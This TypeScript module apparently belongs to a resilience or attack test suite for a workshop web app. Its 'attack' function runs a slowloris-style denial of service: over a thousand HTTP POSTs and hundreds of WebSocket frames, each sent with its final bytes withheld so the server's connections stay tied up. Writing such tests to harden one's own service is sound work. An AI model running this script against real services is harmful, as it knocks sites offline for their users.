import { type Ground, head } from "../ground";

/** Connections without a seat, and the longest body that is read of any. */
const REQUESTS = 1_200;
const BODY = 256 * 1024;
/** A table of people, and as many sockets as each may have. */
const PEOPLE = 20;
const SOCKETS = 12;
const MESSAGE = 1024 * 1024;
/** Of either the last bytes never come. */
const KEPT_BACK = 64;

/** Bodies and messages of which all but the end is sent at once, so that they are held as long as may be. */
export async function attack(ground: Ground): Promise<void> {
  const { venue } = ground;
  const path = ["activities", `workshops/${venue.workshop}/commands`, `join/${venue.joinCode}`];
  const body = Buffer.alloc(BODY - KEPT_BACK, " ");
  const frame = Buffer.alloc(14 + MESSAGE - KEPT_BACK);
  frame.writeUInt16BE(0x82ff); // binary, whole, masked with zeros, a length of eight bytes
  frame.writeBigUInt64BE(BigInt(MESSAGE), 2);
  await Promise.all([
    ground.crowd(REQUESTS, (one) =>
      ground.again(() =>
        ground.hold(
          head(
            `POST /api/${path[one % path.length]}`,
            venue,
            "Content-Type: application/json",
            `Content-Length: ${one % path.length === 0 ? BODY : 65_536}`,
          ),
          one % path.length === 0 ? body : body.subarray(0, 65_536 - KEPT_BACK),
        ),
      ),
    ),
    ground.crowd(PEOPLE, async () => {
      const seat = await ground.sit(venue.own);
      await ground.crowd(SOCKETS, () =>
        ground.again(() => ground.hold(ground.handshake(seat), frame), 100),
      );
    }),
  ]);
}
